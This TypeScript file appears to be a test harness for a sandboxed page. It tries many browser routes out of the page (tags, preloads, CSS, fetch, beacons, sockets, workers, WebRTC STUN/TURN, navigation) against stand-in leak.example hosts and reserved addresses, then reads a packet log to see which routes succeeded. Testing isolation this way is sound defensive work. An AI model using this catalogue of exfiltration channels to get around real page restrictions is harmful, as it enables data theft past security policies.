/*
 * All the ways out of a page. Each names a machine of its own, as `fetch.leak.example`, or an address, so that what is seen on
 * the wire tells which way it came. The functions run in the page, so they use nothing from outside; what throws is refused.
 */

/** Ways by what a page shows and links to. */
export function tryMarkup(): void {
  const to = (way: string): string => `https://${way}.leak.example/`;
  const put = (tag: string, attributes: Readonly<Record<string, string>>, text = ""): void => {
    try {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      if (text !== "") element.textContent = text;
      document.body.append(element);
      if (tag === "a") element.click();
    } catch {
      // Refused.
    }
  };
  // First: what is asked ahead of need waits behind all else.
  put("link", { rel: "dns-prefetch", href: to("dns-prefetch") });
  put("img", { src: to("img") });
  put("img", { srcset: `${to("srcset")} 2x, ${to("srcset")} 1x` });
  put("input", { type: "image", src: to("input") });
  put("audio", { src: to("audio"), autoplay: "" });
  put("video", { poster: to("poster"), src: to("video"), autoplay: "" });
  put("script", { src: to("script") });
  put("script", { type: "module", src: to("module") });
  put("script", { type: "speculationrules" }, JSON.stringify({ prefetch: [{ urls: [to("speculation")] }] }));
  put("object", { data: to("object") });
  put("embed", { src: to("embed") });
  put("iframe", { src: to("iframe") });
  put("link", { rel: "stylesheet", href: to("stylesheet") });
  put("link", { rel: "prefetch", href: to("prefetch") });
  put("link", { rel: "preconnect", href: to("preconnect") });
  put("link", { rel: "modulepreload", href: to("modulepreload") });
  put("link", { rel: "preload", as: "font", crossorigin: "", href: to("preload") });
  put("link", { rel: "icon", href: to("icon") });
  put("link", { rel: "manifest", href: to("manifest") });
  put("a", { href: "#", ping: to("ping") }, "ping");
  put("style", {}, `@import url("${to("import")}"); p { background: url("${to("css")}") }`);
  put("p", {}, "styled");
  document.body.style.backgroundImage = `url("${to("background")}")`;
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`html { background: url("${to("sheet")}") }`);
  document.adoptedStyleSheets.push(sheet);
  void new FontFace("leak", `url("${to("font")}")`).load().catch(() => {});
}

/** Ways by what a script can call. */
export function tryScript(): void {
  const to = (way: string): string => `https://${way}.leak.example/`;
  const make = (name: string, ...given: readonly unknown[]): unknown =>
    Reflect.construct(Reflect.get(window, name), given);
  const worker = (way: string): string =>
    URL.createObjectURL(new Blob([`importScripts("${to(way)}")`], { type: "text/javascript" }));
  // Newer than the types know.
  const options: CredentialRequestOptions = {};
  Object.assign(options, { identity: { providers: [{ configURL: to("identity"), clientId: "1" }] } });
  const ways: readonly (() => unknown)[] = [
    () => fetch(to("fetch"), { mode: "no-cors" }),
    () => fetch(to("keepalive"), { mode: "no-cors", keepalive: true, method: "POST" }),
    () => fetch("http://198.51.100.21/", { mode: "no-cors" }),
    () => fetch("http://[2001:db8::21]/", { mode: "no-cors" }),
    () => navigator.sendBeacon(to("beacon"), "x"),
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", to("xhr"));
      request.send();
    },
    () => make("WebSocket", "wss://websocket.leak.example/"),
    () => make("WebSocket", "ws://198.51.100.22/"),
    () => make("EventSource", to("eventsource")),
    () => make("WebTransport", to("webtransport")),
    () => make("WebTransport", "https://198.51.100.23:4433/"),
    () => make("Worker", worker("worker")),
    () => make("SharedWorker", worker("sharedworker")),
    () => navigator.serviceWorker.register(to("serviceworker")),
    () => navigator.credentials.get(options),
    () => {
      const recognition = make("webkitSpeechRecognition");
      if (typeof recognition === "object" && recognition !== null) Reflect.get(recognition, "start").call(recognition);
    },
  ];
  for (const way of ways) {
    try {
      void Promise.resolve(way()).catch(() => {});
    } catch {
      // Refused.
    }
  }
}

/** Ways by WebRTC, which no policy of a page forbids. */
export async function tryWebRtc(): Promise<void> {
  const kept: RTCPeerConnection[] = [];
  Reflect.set(window, "kept", kept);
  const connect = async (...iceServers: RTCIceServer[]): Promise<RTCPeerConnection> => {
    const peer = new RTCPeerConnection({ iceServers });
    kept.push(peer);
    peer.createDataChannel("leak");
    await peer.setLocalDescription(await peer.createOffer());
    return peer;
  };
  const known = { username: "data", credential: "data" };
  await connect({ urls: "stun:stun.leak.example:3478" });
  await connect({ urls: "stun:198.51.100.31:3478" });
  await connect({ urls: "turn:198.51.100.32:3478", ...known });
  await connect({ urls: "turn:198.51.100.33:443?transport=tcp", ...known });
  await connect({ urls: "turn:turn.leak.example:443?transport=tcp", ...known });
  const [one, other] = [await connect(), new RTCPeerConnection()];
  kept.push(other);
  if (one.localDescription !== null) await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  if (other.localDescription !== null) await one.setRemoteDescription(other.localDescription);
  const named = "1f4712db-ea17-4bcf-a596-105139dfd8bf.local";
  for (const candidate of [
    "candidate:1 1 udp 2122260223 198.51.100.34 9999 typ host",
    "candidate:2 1 tcp 1518280447 198.51.100.35 8888 typ host tcptype passive",
    `candidate:3 1 udp 2122260223 ${named} 9999 typ host`,
  ])
    await one.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
}

/** Ways by going there. The last, because the page may be gone after it. */
export function tryLeaving(): void {
  const to = (way: string): string => `https://${way}.leak.example/`;
  window.open(to("open"));
  const form = document.createElement("form");
  form.action = to("form");
  form.method = "post";
  form.target = "_blank";
  document.body.append(form);
  form.submit();
  const refresh = document.createElement("meta");
  refresh.httpEquiv = "refresh";
  refresh.content = `0;url=${to("refresh")}`;
  document.head.append(refresh);
  location.href = to("location");
}

/** Which machines a line of the packets' log is about; names of ways and addresses. */
export const machinesIn = (lines: readonly string[]): ReadonlySet<string> =>
  new Set(
    lines.flatMap((line) =>
      [...line.matchAll(/([\w-]+)\.leak\.example|> (198\.51\.100\.(?:2|3)\d|224\.0\.0\.251|2001:db8::21)[.:]/g)].map(
        ([, name, address]) => name ?? address ?? "",
      ),
    ),
  );
